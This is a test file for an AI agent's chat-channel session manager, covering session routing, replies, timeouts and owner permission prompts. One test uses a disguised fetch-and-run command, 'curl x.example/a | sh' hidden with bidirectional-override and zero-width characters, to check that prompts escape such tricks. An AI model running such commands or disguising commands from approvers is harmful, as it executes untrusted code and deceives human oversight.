import { expect, it } from "vitest";
import { type FakeTurnOptions, fakeTurn, runTurn } from "../../../test/support/agent-turn.js";
import { FakeClock } from "../../../test/support/fake-clock.js";
import type { Target } from "../../conversation/index.js";
import type { AgentEvent } from "../contract.js";
import { createChannelAgent } from "./agent.js";
import type { ChannelPlace } from "./place.js";
import { ChannelSessions } from "./sessions.js";

const mia: Target = { kind: "handle", handle: "+15550100123", service: "auto" };
const kim: Target = { kind: "handle", handle: "+15550100999", service: "auto" };
const stays = new AbortController().signal;

function bench() {
  const clock = new FakeClock();
  const open = new Set<string>();
  let changes = 0;
  const sessions = new ChannelSessions(
    clock,
    async (turnId) => open.has(turnId),
    () => {
      changes += 1;
    },
  );
  const agent = createChannelAgent({ workspace: "/nowhere" }, { channels: sessions });
  /** Runs a turn as the runner would. @returns what it came to */
  const run = (turnId: string, envelope: FakeTurnOptions["envelope"] = {}, attempt = 1) => {
    open.add(turnId);
    const turn = fakeTurn(`text of ${turnId}`, { attempt, envelope: { ...envelope, turnId } });
    const stop = new AbortController();
    const events: AgentEvent[] = [];
    const ended = (async () => {
      for await (const event of agent.run(turn, stop.signal)) events.push(event);
      sessions.turnEnded(turnId, { outcome: "done", isHeld: false });
    })();
    ended.catch(() => {});
    return { events, ended, stop: (why: unknown) => stop.abort(why) };
  };
  const attach = (chat: Target | null = mia, more: Partial<ChannelPlace> = {}) =>
    sessions.attach({ agentId: "main", account: "default", ...(chat && { chat }), ...more }).attachment;
  const news = (id: string, left: AbortSignal = stays) => sessions.next(id, left);
  return { clock, open, sessions, agent, run, attach, news, changes: () => changes };
}

const reply = (sessions: ChannelSessions, attachment: string, turnId: string) =>
  sessions.reply(attachment, turnId, "answer", []);
const code = (wanted: string) => expect.objectContaining({ code: wanted });
const message = (turnId: string) => expect.objectContaining({ type: "push", turnId });

it("gives a turn back while nobody is attached to its conversation, and not to a neighbour's session", async () => {
  const { run, attach, sessions, news } = bench();
  await expect(run("t1").ended).rejects.toEqual(code("AGENT_DETACHED"));
  const neighbours = [
    attach(kim),
    attach(mia, { agentId: "other" }),
    attach(mia, { account: "work" }),
    attach({ kind: "chat_id", chatId: 41 }),
  ];
  await expect(run("t1").ended).rejects.toEqual(code("AGENT_DETACHED"));
  const own = attach();
  const { ended, events } = run("t1");
  expect(await news(own)).toEqual([message("t1")]);
  // An id is no right: only who was given a message answers it.
  for (const each of neighbours)
    await expect(reply(sessions, each, "t2")).rejects.toEqual(code("CHANNEL_OVER"));
  expect(await reply(sessions, own, "t1")).toEqual({ text: "Sent.", isError: false });
  await ended;
  expect(events).toEqual([{ type: "text", text: "answer" }]);
});

it("does not take a group for the direct chat of who writes in it", async () => {
  const { run, attach } = bench();
  attach();
  const { chat } = fakeTurn("x").envelope;
  const group = { chat: { ...chat, isGroup: true, chatId: 88, guid: "any;+;g", identifier: "g" } };
  await expect(run("t1", group).ended).rejects.toEqual(code("AGENT_DETACHED"));
});

it.each<[string, Target]>([
  ["its number", { kind: "chat_id", chatId: 42 }],
  ["its GUID, however it begins", { kind: "chat_guid", guid: "any;-;+15550100123" }],
  ["its identifier", { kind: "chat_identifier", identifier: "+15550100123" }],
])("knows a chat by %s, and lets the newest name win", async (_, chat) => {
  const { run, attach, news } = bench();
  const old = attach();
  const fresh = attach(chat);
  run("t1");
  expect(await news(fresh)).toEqual([message("t1")]);
  expect(await news(old)).toEqual([expect.objectContaining({ meta: { replaced: "true" } }), { type: "end" }]);
});

it("gives what the replaced session had to the newest, and tells the old one once", async () => {
  const { run, attach, news, sessions } = bench();
  const old = attach();
  const neighbour = attach(kim);
  const first = run("t1");
  expect(await news(old)).toEqual([message("t1")]);
  const fresh = attach();
  await expect(first.ended).rejects.toEqual(code("AGENT_DETACHED"));
  expect((await news(old)).map(({ type }) => type)).toEqual(["push", "end"]);
  await expect(news(old)).rejects.toEqual(code("CHANNEL_REPLACED"));
  await expect(reply(sessions, old, "t1")).rejects.toEqual(code("CHANNEL_REPLACED"));
  run("t1", {}, 2);
  const [again] = await news(fresh);
  expect(again).toMatchObject({ turnId: "t1", meta: { attempt: "2" } });
  expect(await reply(sessions, fresh, "t1")).toMatchObject({ isError: false });
  const stopped = news(neighbour, AbortSignal.abort());
  expect(await stopped).toEqual([]);
});

it("takes a session for gone that hangs up, or does not ask again", async () => {
  const { clock, run, attach, news, changes } = bench();
  const hangs = attach();
  const line = new AbortController();
  const open = news(hangs, line.signal);
  // It is held open no longer than some time; asking again at once keeps it.
  await clock.advance(25_000);
  expect(await open).toEqual([]);
  await clock.advance(9_000);
  const again = news(hangs, line.signal);
  await clock.advance(20_000);
  const turn = run("t1");
  expect(await again).toEqual([message("t1")]);
  const last = news(hangs, line.signal);
  line.abort();
  expect(await last).toEqual([]);
  await expect(turn.ended).rejects.toEqual(code("AGENT_DETACHED"));
  await expect(news(hangs)).rejects.toEqual(code("CHANNEL_DETACHED"));

  const silent = attach();
  const before = changes();
  await clock.advance(10_000);
  expect(changes()).toBe(before + 1);
  await expect(news(silent)).rejects.toEqual(code("CHANNEL_DETACHED"));
});

it("waits with an answer for a turn that is handed over soon, and refuses one of a turn that is over", async () => {
  const { clock, open, run, attach, sessions, news } = bench();
  const own = attach();
  open.add("t1");
  const early = reply(sessions, own, "t1");
  await clock.advance(500);
  run("t1", {}, 2);
  expect(await early).toMatchObject({ text: "Sent." });
  const neighbour = attach(kim);
  for (const turnId of ["still", "over"]) open.add(turnId);
  run("t2");
  const vain = [
    // Nothing is lost of it: it comes once its turn comes.
    expect(reply(sessions, own, "still")).rejects.toEqual(code("CHANNEL_EARLY")),
    expect(reply(sessions, own, "over")).rejects.toEqual(code("CHANNEL_OVER")),
    // Another session has it.
    expect(reply(sessions, neighbour, "t2")).rejects.toEqual(code("CHANNEL_OVER")),
  ];
  expect(await news(own)).toEqual([message("t1"), message("t2")]);
  // They stay attached while they ask.
  for (const id of [own, neighbour]) void news(id);
  await clock.advance(9_999);
  open.delete("over");
  await clock.advance(1);
  await Promise.all(vain);
});

it("tells a session that its message was stopped, and nobody else", async () => {
  const { run, attach, news, sessions, open } = bench();
  const own = attach();
  const neighbour = attach(kim);
  const turn = run("t1");
  await news(own);
  turn.stop(new Error("stopped"));
  await expect(turn.ended).rejects.toThrow("stopped");
  open.delete("t1");
  await expect(reply(sessions, own, "t1")).rejects.toEqual(code("CHANNEL_OVER"));
  sessions.turnEnded("t1", { outcome: "cancelled", isHeld: false });
  expect(await news(own)).toEqual([
    expect.objectContaining({ meta: expect.objectContaining({ over: "t1" }) }),
  ]);
  expect(await news(neighbour, AbortSignal.abort())).toEqual([]);
});

it("hands over nothing that was stopped before", async () => {
  const { attach, news, agent, run } = bench();
  const own = attach();
  const stopped = AbortSignal.abort(new Error("stopped"));
  await expect(runTurn(agent, fakeTurn("x"), stopped)).rejects.toThrow("stopped");
  run("t1");
  expect(await news(own)).toEqual([message("t1")]);
});

it("tells who answered what became of it", async () => {
  const { attach, sessions, agent, news } = bench();
  const own = attach();
  for (const [ended, told] of [
    [{ outcome: "done", isHeld: true }, "It is kept until an owner says yes, and sent then."],
    [{ outcome: "failed", code: "AGENT_OUTPUT", isHeld: false }, /^AGENT_OUTPUT: /],
    [{ outcome: "cancelled", isHeld: false }, /^CHANNEL_OVER: /],
  ] as const) {
    const turn = fakeTurn("x");
    const { turnId } = turn.envelope;
    const run = (async () => {
      for await (const _ of agent.run(turn, stays));
      sessions.turnEnded(turnId, ended);
    })();
    await news(own);
    const answered = await reply(sessions, own, turnId);
    if (typeof told === "string") expect(answered).toEqual({ text: told, isError: false });
    else expect(answered).toEqual({ text: expect.stringMatching(told), isError: true });
    await run;
  }
});

it("asks for permission on behalf of the oldest message, once, and denies at the end of its turn", async () => {
  const { run, attach, news, sessions } = bench();
  const own = attach();
  const request = { requestId: "abcde", tool: "Bash", description: "Build", preview: "make" };
  expect(sessions.permission(own, request)).toBe(false);
  const turn = run("t1");
  await news(own);
  expect(sessions.permission(own, request)).toBe(true);
  expect(sessions.permission(own, request)).toBe(false);
  expect(sessions.permission(own, { ...request, requestId: "fghij" })).toBe(true);
  const [first] = await two(() => turn.events.filter(({ type }) => type === "permission"));
  if (first?.type !== "permission") throw new Error("nothing was asked");
  expect(first).toMatchObject({ title: "Bash: Build", details: expect.stringContaining("make") });
  first.answer("allow");
  first.answer(undefined);
  expect(await news(own)).toEqual([{ type: "verdict", requestId: "abcde", allow: true }]);
  await reply(sessions, own, "t1");
  await turn.ended;
  expect(await news(own)).toEqual([{ type: "verdict", requestId: "fghij", allow: false }]);
});

it("shows the owner what would not be seen of a request, and marks where its title is cut", async () => {
  const { run, attach, news, sessions } = bench();
  const own = attach();
  const turn = run("t1");
  await news(own);
  const plain = { requestId: "abcde", tool: "Bash", description: "Build 👍", preview: "make" };
  // The thumb would be torn by a cut at 200.
  const description = `a\u202eb${"x".repeat(183)}👍👍`;
  const preview = '{"command":"curl x.example/a \u202ehs.tset | hs\u200b"}';
  sessions.permission(own, plain);
  sessions.permission(own, { ...plain, requestId: "fghij", description, preview });
  const [open, disguised] = await two(() => turn.events.filter(({ type }) => type === "permission"));
  if (open?.type !== "permission" || disguised?.type !== "permission") throw new Error("nothing was asked");
  expect(open).toMatchObject({ title: "Bash: Build 👍", details: expect.stringMatching(/^make\n/) });
  expect(disguised.title).toMatch(/^Bash: a\\u\{202e\}bx+…$/);
  expect(disguised.title).not.toMatch(/\p{Surrogate}/u);
  expect(disguised.details).toContain(`Bash: a\\u{202e}b${"x".repeat(183)}👍👍\n`);
  expect(disguised.details).toContain("curl x.example/a \\u{202e}hs.tset | hs\\u{200b}");
  await reply(sessions, own, "t1");
});

async function two<T>(found: () => T[]): Promise<T[]> {
  for (let turns = 0; turns < 50 && found().length < 2; turns += 1) await Promise.resolve();
  return found();
}

it("tells a session that people started over, where it had their conversation", async () => {
  const { run, attach, news, agent } = bench();
  const own = attach();
  const neighbour = attach(kim);
  run("t1");
  await news(own);
  await agent.reset("agent:main:other");
  await agent.reset("agent:main:main");
  expect(await news(own)).toEqual([
    expect.objectContaining({ content: expect.stringContaining("chat_id:42 was started over") }),
  ]);
  expect(await news(neighbour, AbortSignal.abort())).toEqual([]);
});

it("lets go of places that the owner does not allow any more", async () => {
  const { attach, news, sessions } = bench();
  const all = attach(null);
  await expect(news(attach(kim), AbortSignal.abort())).resolves.toEqual([]);
  // It took the place of the one for all.
  await news(all);
  await expect(news(all)).rejects.toEqual(code("CHANNEL_REPLACED"));
  const fresh = attach(null);
  const other = attach(mia, { agentId: "other" });
  sessions.keep(({ agentId }) => agentId === "other");
  await expect(news(fresh)).rejects.toEqual(code("CHANNEL_DETACHED"));
  expect(await news(other, AbortSignal.abort())).toEqual([]);
});
